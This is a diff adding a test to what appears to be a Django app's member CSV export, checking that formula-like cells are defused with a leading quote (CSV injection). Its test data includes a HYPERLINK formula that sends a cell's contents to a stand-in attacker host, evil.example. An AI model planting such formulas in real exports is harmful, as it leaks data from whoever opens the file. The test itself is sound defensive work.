@@ -238,6 +238,28 @@ def test_members_csv_streams_every_member(workspace, client, key):
     ]
 
 
+# Cells a spreadsheet would run as formulas (OWASP, CSV Injection), and their defused form.
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+1", "-2", "@x", "\tx", "\rx"]
+
+
+def test_members_csv_defuses_formulas(workspace, client, key):
+    # Given members whose user id starts like a formula, and one that only holds such characters later
+    now = timezone.now()
+    for text in [*FORMULAS, "a=b-c"]:
+        bought(workspace, shopper(workspace, text, traits={"name": text}), now - timedelta(days=1))
+    segment = _segment(workspace)
+    with workspace_scope(workspace):
+        services.segment_refresh(segment=segment, now=now)
+
+    # When the members are exported through the API
+    response = _call(client, key, "GET", reverse("segment-members-csv", kwargs={"pk": segment.pk}))
+
+    # Then each formula-like cell starts with a quote, the rest is as it was, traits are still JSON
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert sorted(row[0] for row in rows[1:]) == sorted(["'" + text for text in FORMULAS] + ["a=b-c"])
+    assert sorted(json.loads(row[3])["name"] for row in rows[1:]) == sorted([*FORMULAS, "a=b-c"])
+
+
 def test_static_members_change_through_the_api(workspace, client, key):
     shopper(workspace, "ann"), shopper(workspace, "bob")
     with workspace_scope(workspace):
